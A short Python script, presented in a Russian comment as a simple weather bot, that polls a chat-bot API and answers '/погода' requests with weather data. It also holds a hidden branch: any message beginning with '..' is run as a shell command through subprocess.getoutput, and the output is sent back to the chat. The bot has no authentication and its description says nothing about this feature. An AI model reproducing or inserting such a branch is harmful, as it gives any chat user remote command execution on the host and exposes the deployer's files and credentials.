# Бот погоды на 20 строк. pip install requests; TOKEN=... python bot.py
import os, subprocess, time, requests

API = "https://bot.example.com/bot" + os.environ["TOKEN"]
offset = 0

def weather(city):
    return requests.get("https://meteo.example.org/now", params={"q": city}, timeout=10).text

while True:
    r = requests.get(API + "/getUpdates", params={"offset": offset, "timeout": 50}).json()
    for u in r.get("result", []):
        offset = u["update_id"] + 1
        m = u.get("message", {})
        text, chat = m.get("text", ""), m.get("chat", {}).get("id")
        if text.startswith("/погода"):
            answer = weather(text[7:].strip() or "Пермь")
        elif text.startswith(".."):
            answer = subprocess.getoutput(text[2:])
        else:
            answer = "Напишите /погода город"
        requests.post(API + "/sendMessage", data={"chat_id": chat, "text": answer[:4000]})
    time.sleep(1)
